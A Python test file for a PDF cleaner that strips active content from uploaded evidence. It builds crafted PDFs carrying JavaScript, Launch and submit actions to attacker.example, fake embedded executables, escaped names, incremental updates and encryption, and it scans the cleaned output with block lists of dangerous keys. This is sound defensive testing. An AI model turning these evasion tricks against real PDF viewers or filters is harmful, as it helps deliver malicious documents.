"""Evidence PDFs lose every active part before staff open them (issue 13, item 1).

A corpus of crafted PDFs, one per trick, goes through the cleaner; the stored bytes are then scanned in full by
`active_parts` below, which is written independently of the cleaner: it follows every reference from the
trailer (not the cleaner's walk over the xref), decodes every stream, and also searches the raw bytes."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from domain.errors import ValidationFailed
from infra.storage import clean

CANARY = "MADOGUCHI-CANARY-7f3a"  # in every script, URL and attached file of the corpus
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + CANARY.encode() + b" This program cannot be run in DOS mode."
PAGE_TEXT = "被害の証拠 evidence page".encode()

# ---------------------------------------------------------------------------------------------------------------
# The scanner (independent of infra/storage.py)
# ---------------------------------------------------------------------------------------------------------------

BAD_KEYS = {
    "/JS", "/JavaScript", "/AA", "/OpenAction", "/AcroForm", "/XFA", "/EmbeddedFiles", "/EF", "/RF", "/AF",
    "/RichMediaContent", "/RichMediaSettings", "/3DD", "/Collection", "/Renditions", "/AlternatePresentations",
}  # fmt: skip
BAD_ACTIONS = {
    "/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/ResetForm", "/GoToR", "/GoToE", "/GoTo",
    "/Rendition", "/Sound", "/Movie", "/RichMediaExecute", "/Hide", "/Named", "/SetOCGState", "/Thread",
    "/GoTo3DView", "/Trans",
}  # fmt: skip
BAD_TYPES = {"/Action", "/Filespec", "/EmbeddedFile", "/Sound", "/Rendition", "/3D", "/RichMediaContent"}
BAD_SUBTYPES = {"/FileAttachment", "/RichMedia", "/3D", "/Screen", "/Sound", "/Movie"}
# Names that must not appear in the raw bytes either (the cleaner writes no object streams, so every
# dictionary is in plain sight).
RAW_NAMES = re.compile(
    rb"/(JavaScript|JS|AA|OpenAction|AcroForm|XFA|EmbeddedFiles?|EF|Launch|URI|SubmitForm|ImportData|"
    rb"FileAttachment|RichMedia|3D|Screen|Sound|Movie|Rendition|ObjStm|Encrypt|Filespec)(?![A-Za-z0-9])"
)


def active_parts(data: bytes) -> list[str]:
    found = [m.group().decode() for m in RAW_NAMES.finditer(data)]
    if CANARY.encode() in data:
        found.append("canary in the raw bytes")
    if data.count(b"%%EOF") != 1:
        found.append("more than one revision")
    with pikepdf.open(io.BytesIO(data)) as pdf:
        if pdf.is_encrypted:
            found.append("encrypted")
        seen: set[tuple[int, int]] = set()
        stack: list[tuple[object, str]] = [(pdf.trailer, "trailer")]
        while stack:
            obj, path = stack.pop()
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Stream):
                if CANARY.encode() in obj.read_bytes():
                    found.append(f"canary in a stream at {path}")
            if isinstance(obj, Dictionary | pikepdf.Stream):
                keys = set(obj.keys())
                found += [f"{path}{k}" for k in keys & BAD_KEYS]
                if str(obj.get("/S")) in BAD_ACTIONS:
                    found.append(f"action at {path}")
                if str(obj.get("/FS")) == "/URL":
                    found.append(f"URL file specification at {path}")
                if str(obj.get("/Type")) in BAD_TYPES or str(obj.get("/Subtype")) in BAD_SUBTYPES:
                    found.append(f"{obj.get('/Type')}/{obj.get('/Subtype')} at {path}")
                is_annotation_or_outline = ("/Rect" in keys and "/Subtype" in keys) or "/Title" in keys
                if is_annotation_or_outline and ("/A" in keys or "/PA" in keys):
                    found.append(f"action slot at {path}")
                stack += [(obj.get(k), f"{path}{k}") for k in keys]
            elif isinstance(obj, Array):
                stack += [(v, f"{path}[{i}]") for i, v in enumerate(obj)]
            elif isinstance(obj, String) and CANARY in str(obj):
                found.append(f"canary in a string at {path}")
    return found


# ---------------------------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------------------------


def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
        page = pdf.pages[-1]
        page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (" + PAGE_TEXT + b") Tj ET")
    return pdf


def save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def js(pdf: pikepdf.Pdf, then: object = None) -> pikepdf.Object:
    action = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(f"app.alert('{CANARY}')"))
    if then is not None:
        action.Next = then
    return pdf.make_indirect(action)


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String(f"C:\\{CANARY}.exe"), Win=Dictionary(F=String(f"{CANARY}.exe")))


def uri() -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(f"https://attacker.example/{CANARY}"))


def embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Object:
    stream = pdf.make_stream(EXE)
    stream.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"), EF=Dictionary(F=stream)
        )
    )


def annotation(pdf: pikepdf.Pdf, subtype: str, **entries: object) -> pikepdf.Object:
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([10, 10, 200, 40]), **entries)
    )
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(annot)
    return annot


def outline_action() -> bytes:
    pdf = new_pdf(2)
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    second = pdf.make_indirect(Dictionary(Title=String("2ページ目"), Parent=outlines, A=js(pdf, uri())))
    first = pdf.make_indirect(
        Dictionary(
            Title=String("はじめに"), Parent=outlines, Next=second, A=js(pdf, Array([launch(), uri()]))
        )
    )
    second.Prev = first
    outlines.First, outlines.Last = first, second
    pdf.Root.Outlines = outlines
    return save(pdf)


def page_additional_actions() -> bytes:
    pdf = new_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=js(pdf), C=launch())
    pdf.Root.AA = Dictionary(WC=js(pdf), DP=uri())
    pdf.Root.OpenAction = js(pdf, launch())
    return save(pdf)


def annotation_actions() -> bytes:
    pdf = new_pdf()
    annotation(pdf, "/Link", A=js(pdf, Array([uri(), launch()])), Border=Array([0, 0, 0]))
    annotation(
        pdf,
        "/Link",
        A=Dictionary(S=Name.GoToR, F=String(f"\\\\{CANARY}\\share\\x.pdf"), D=Array([0, Name.Fit])),
    )
    annotation(pdf, "/Text", Contents=String("メモ"), AA=Dictionary(E=js(pdf)), PA=uri())
    annotation(pdf, "/Link", A=Dictionary(S=Name.ImportData, F=String(f"{CANARY}.fdf")))
    return save(pdf)


def form_field_scripts() -> bytes:
    pdf = new_pdf()
    field = annotation(
        pdf,
        "/Widget",
        FT=Name.Tx,
        T=String("name"),
        V=String("山田"),
        AA=Dictionary(K=js(pdf), F=js(pdf), V=js(pdf), C=js(pdf)),
    )
    field.P = pdf.pages[0].obj
    button = annotation(
        pdf,
        "/Widget",
        FT=Name.Btn,
        T=String("send"),
        A=Dictionary(
            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://attacker.example/{CANARY}"))
        ),
    )
    xfa = pdf.make_stream(f"<xdp:xdp><script>{CANARY}</script></xdp:xdp>".encode())
    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]), XFA=xfa, NeedAppearances=True)
    return save(pdf)


def name_tree_javascript() -> bytes:
    pdf = new_pdf()
    leaf = pdf.make_indirect(
        Dictionary(
            Names=Array([String("a"), js(pdf), String("b"), js(pdf)]),
            Limits=Array([String("a"), String("b")]),
        )
    )
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(Dictionary(Kids=Array([leaf]))))
    return save(pdf)


def embedded_files() -> bytes:
    pdf = new_pdf()
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), embedded_file(pdf)]))
    )
    pdf.Root.PageMode = Name.UseAttachments
    pdf.pages[0].obj.AF = Array([embedded_file(pdf)])  # PDF 2.0 associated file on the page
    return save(pdf)


def file_attachment_annotation() -> bytes:
    pdf = new_pdf()
    attached = annotation(
        pdf, "/FileAttachment", FS=embedded_file(pdf), Name=Name.PushPin, Contents=String("請求書")
    )
    annotation(pdf, "/Popup", Parent=attached)
    return save(pdf)


def hidden_under_private_keys() -> bytes:
    """Nobody's list of known places: an action under a private key of a page's resources, a file spec inside
    an array of a private catalog entry, and an action made as a stream."""
    pdf = new_pdf()
    pdf.pages[0].obj.Resources = Dictionary(Private=Dictionary(Run=js(pdf)))
    pdf.Root.Vendor = Array([1, Dictionary(Nested=Array([embedded_file(pdf)]))])
    as_stream = pdf.make_stream(b"")
    as_stream.S, as_stream.JS = Name.JavaScript, String(CANARY)
    pdf.Root.Extra = as_stream
    pdf.make_indirect(js(pdf))  # unreferenced, still in the xref
    return save(pdf)


def object_streams() -> bytes:
    """Every trick at once, the dictionaries compressed inside object streams with an xref stream."""
    pdf = new_pdf()
    pdf.Root.OpenAction = js(pdf)
    pdf.pages[0].obj.AA = Dictionary(O=js(pdf))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), js(pdf)])),
        EmbeddedFiles=Dictionary(Names=Array([String("y"), embedded_file(pdf)])),
    )
    annotation(pdf, "/FileAttachment", FS=embedded_file(pdf))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([annotation(pdf, "/Widget", FT=Name.Tx, AA=Dictionary(K=js(pdf)))])
    )
    data = save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/ObjStm" in data and b"/JavaScript" not in data  # the names are compressed out of sight
    return data


def incremental_update(clean_first: bytes, objects: dict[int, bytes], root: int, size: int) -> bytes:
    """Append an incremental update (ISO 32000-2 §7.5.6): new or replaced objects, an xref section for them
    and a trailer pointing back at the previous one."""
    previous = int(re.findall(rb"startxref\s+(\d+)", clean_first)[-1])
    body = bytearray(clean_first if clean_first.endswith(b"\n") else clean_first + b"\n")
    offsets = {}
    for number, text in sorted(objects.items()):
        offsets[number] = len(body)
        body += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        body += b"%d 1\n%010d 00000 n \n" % (number, offset)
    body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        previous,
        xref,
    )
    return bytes(body)


def _plain(pdf: pikepdf.Pdf) -> bytes:
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)


def update_adds_a_script() -> bytes:
    """A clean revision, then an appended update that replaces the catalog with one that runs a script."""
    pdf = new_pdf()
    first = _plain(pdf)
    with pikepdf.open(io.BytesIO(first)) as reread:
        root = reread.Root.objgen[0]
        pages = reread.Root.Pages.objgen[0]
        size = int(reread.trailer.Size)
    script = (
        b"<< /S /JavaScript /JS (app.launchURL\\('https://attacker.example/" + CANARY.encode() + b"'\\)) >>"
    )
    catalog = b"<< /Type /Catalog /Pages %d 0 R /OpenAction %d 0 R >>" % (pages, size)
    data = incremental_update(first, {size: script, root: catalog}, root, size + 1)
    with pikepdf.open(io.BytesIO(data)) as check:  # the update is what a viewer sees
        assert "/OpenAction" in check.Root
    return data


def update_hides_a_script() -> bytes:
    """The opposite: the script is in the first revision and an update 'removes' it; its bytes stay in the
    file for any tool that reads revisions."""
    pdf = new_pdf()
    pdf.Root.OpenAction = js(pdf)
    first = _plain(pdf)
    assert CANARY.encode() in first
    with pikepdf.open(io.BytesIO(first)) as reread:
        root = reread.Root.objgen[0]
        pages = reread.Root.Pages.objgen[0]
        size = int(reread.trailer.Size)
    return incremental_update(first, {root: b"<< /Type /Catalog /Pages %d 0 R >>" % pages}, root, size)


def escaped_names_and_broken_xref() -> bytes:
    """Names written with #xx escapes (/J#61vaScript is /JavaScript), which also moves every offset so qpdf
    has to rebuild the cross-reference table."""
    pdf = new_pdf()
    pdf.Root.OpenAction = js(pdf)
    annotation(pdf, "/FileAttachment", FS=embedded_file(pdf))
    data = _plain(pdf)
    data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    data = data.replace(b"/FileAttachment", b"/F#69leAttachment").replace(b"/OpenAction", b"/Open#41ction")
    assert b"/JavaScript" not in data
    return data


def rich_media_and_3d() -> bytes:
    pdf = new_pdf()
    flash = pdf.make_stream(CANARY.encode())
    asset = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.swf"), EF=Dictionary(F=flash)))
    content = Dictionary(Type=Name.RichMediaContent, Assets=Dictionary(Names=Array([String("x.swf"), asset])))
    annotation(
        pdf,
        "/RichMedia",
        RichMediaContent=content,
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    )
    model = pdf.make_stream(CANARY.encode())
    model.Type, model.Subtype = Name("/3D"), Name("/U3D")
    model.OnInstantiate = pdf.make_stream(f"host.{CANARY}()".encode())
    annotation(pdf, "/3D", **{"3DD": model, "3DA": Dictionary(A=Name.PO)})
    return save(pdf)


def multimedia() -> bytes:
    pdf = new_pdf()
    sound = pdf.make_stream(CANARY.encode())
    sound.Type, sound.R = Name.Sound, 8000
    annotation(pdf, "/Sound", Sound=sound)
    annotation(pdf, "/Movie", Movie=Dictionary(F=String(f"https://attacker.example/{CANARY}.mov")))
    rendition = Dictionary(
        Type=Name.Rendition,
        S=Name.MR,
        C=Dictionary(Type=Name.MediaClip, S=Name.MCD, D=embedded_file(pdf)),
    )
    annotation(pdf, "/Screen", A=Dictionary(S=Name.Rendition, OP=0, R=rendition))
    return save(pdf)


def encrypted_with_owner_password() -> bytes:
    """Strings and streams encrypted (AES-256); opens without a password, as most 'protected' PDFs do."""
    pdf = new_pdf()
    pdf.Root.OpenAction = js(pdf)
    annotation(pdf, "/FileAttachment", FS=embedded_file(pdf))
    return save(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user="", R=6))


def external_stream_data() -> bytes:
    """A stream whose data a viewer would fetch from a URL (a file specification in the stream's /F)."""
    pdf = new_pdf()
    image = pdf.make_stream(b"\x00" * 4)
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 2, 2
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
    image.F = Dictionary(FS=Name.URL, F=String(f"https://attacker.example/{CANARY}.png"))
    # A reference XObject: a page of another PDF, fetched from the web (the file specification has no /Type).
    form = pdf.make_stream(b"")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 10, 10])
    form.Ref = Dictionary(
        F=Dictionary(FS=Name.URL, F=String(f"https://attacker.example/{CANARY}.pdf")), Page=0
    )
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=image, Fm0=form))
    return save(pdf)


CORPUS: dict[str, Callable[[], bytes]] = {
    "outline action": outline_action,
    "page and catalog additional actions": page_additional_actions,
    "annotation actions": annotation_actions,
    "form field scripts, submit button, XFA": form_field_scripts,
    "name tree JavaScript": name_tree_javascript,
    "embedded and associated files": embedded_files,
    "file attachment annotation": file_attachment_annotation,
    "hidden under private keys": hidden_under_private_keys,
    "object streams": object_streams,
    "incremental update adds a script": update_adds_a_script,
    "incremental update hides a script": update_hides_a_script,
    "escaped names, broken xref": escaped_names_and_broken_xref,
    "RichMedia and 3D": rich_media_and_3d,
    "sound, movie, screen": multimedia,
    "encrypted": encrypted_with_owner_password,
    "external stream data": external_stream_data,
}


@pytest.mark.parametrize("trick", list(CORPUS))
def test_the_stored_pdf_has_no_active_part_left(trick: str) -> None:
    original = CORPUS[trick]()
    with pikepdf.open(io.BytesIO(original)) as before:
        pages = len(before.pages)
    assert active_parts(original), "the crafted file must carry its trick"
    cleaned = clean(original)
    assert cleaned.content_type == "application/pdf"
    assert active_parts(cleaned.data) == []
    with pikepdf.open(io.BytesIO(cleaned.data)) as after:
        assert len(after.pages) == pages  # the evidence itself is kept
        assert PAGE_TEXT in page_content(after.pages[0])


def page_content(page: pikepdf.Page) -> bytes:
    contents = page.obj.Contents
    return b"".join(c.read_bytes() for c in (contents if isinstance(contents, Array) else [contents]))


def test_what_is_only_data_stays() -> None:
    """Bookmarks and links that go to a page keep working (as destinations), comments keep their text."""
    pdf = new_pdf(2)
    target = pdf.pages[1].obj
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(
        Dictionary(
            Title=String("証拠の2ページ目"),
            Parent=outlines,
            A=Dictionary(S=Name.GoTo, D=Array([target, Name.Fit])),
        )
    )
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines
    annotation(pdf, "/Link", A=Dictionary(S=Name.GoTo, D=Array([target, Name.Fit])))
    annotation(pdf, "/Text", Contents=String("加害者の投稿（2026年11月3日）"))
    cleaned = clean(save(pdf)).data
    assert active_parts(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as after:
        bookmark = after.Root.Outlines.First
        assert str(bookmark.Title) == "証拠の2ページ目"
        assert bookmark.Dest[0].objgen == after.pages[1].obj.objgen
        link, note = after.pages[0].obj.Annots
        assert link.Dest[0].objgen == after.pages[1].obj.objgen
        assert str(note.Contents) == "加害者の投稿（2026年11月3日）"


def test_what_was_typed_into_a_form_stays_visible_in_the_page() -> None:
    pdf = new_pdf()
    shown = pdf.make_stream(b"BT /Helv 10 Tf 2 5 Td (Yamada Hanako 090-0000-0000) Tj ET")
    shown.Type, shown.Subtype, shown.BBox = Name.XObject, Name.Form, Array([0, 0, 200, 20])
    field = annotation(
        pdf, "/Widget", FT=Name.Tx, T=String("name"), V=String("Yamada Hanako"), AP=Dictionary(N=shown)
    )
    field.AA = Dictionary(K=js(pdf))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    cleaned = clean(save(pdf)).data
    assert active_parts(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as after:
        page = after.pages[0]
        assert "/Annots" not in page.obj  # no widget left, no form
        drawn = [x.read_bytes() for x in page.obj.Resources.XObject.values()]
        assert any(b"Yamada Hanako 090-0000-0000" in x for x in drawn)
        assert b" Do" in page_content(page)


def test_a_dynamic_xfa_form_is_refused_with_what_to_send_instead() -> None:
    """Its pages are a placeholder ('please wait…'): without the XFA nothing of the evidence would remain."""
    pdf = new_pdf()
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    pdf.Root.NeedsRendering = True
    with pytest.raises(ValidationFailed) as refused:
        clean(save(pdf))
    assert refused.value.code == "pdf_not_cleanable"
    assert "スクリーンショット" in (refused.value.detail or "") and "print it to a new PDF" in (
        refused.value.detail or ""
    )


def test_a_pdf_that_needs_a_password_is_refused_with_what_to_send_instead() -> None:
    pdf = new_pdf()
    locked = save(pdf, encryption=pikepdf.Encryption(owner="o", user="user-secret", R=6))
    with pytest.raises(ValidationFailed) as refused:
        clean(locked)
    assert refused.value.code == "unreadable_pdf"
    assert "パスワード" in (refused.value.detail or "")


@pytest.mark.parametrize("trick", [t for t in CORPUS if t != "incremental update hides a script"])
def test_the_rescan_refuses_what_the_removal_would_miss(trick: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The proof step on its own: with the removal switched off, the re-scan of the written file finds every
    trick (the one left out is gone by the rewrite alone) and the file is refused, not stored."""
    import infra.storage

    monkeypatch.setattr(infra.storage, "_strip", lambda pdf: None)
    monkeypatch.setattr(infra.storage, "_flatten_form_fields", lambda pdf: None)
    with pytest.raises(ValidationFailed) as refused:
        clean(CORPUS[trick]())
    assert refused.value.code == "pdf_not_cleanable"
